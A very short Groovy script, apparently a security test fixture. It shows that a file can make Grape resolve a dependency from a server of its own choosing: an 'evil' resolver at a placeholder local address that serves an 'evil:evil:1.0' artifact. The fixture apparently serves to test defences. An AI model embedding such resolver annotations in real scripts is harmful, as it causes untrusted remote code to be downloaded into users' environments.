// Grape asks a server of the file's choice.
holdfast 1
name 'victim'
@GrabResolver(name = 'evil', root = 'http://127.0.0.1:PORT/')
@Grab('evil:evil:1.0')
def x = 1
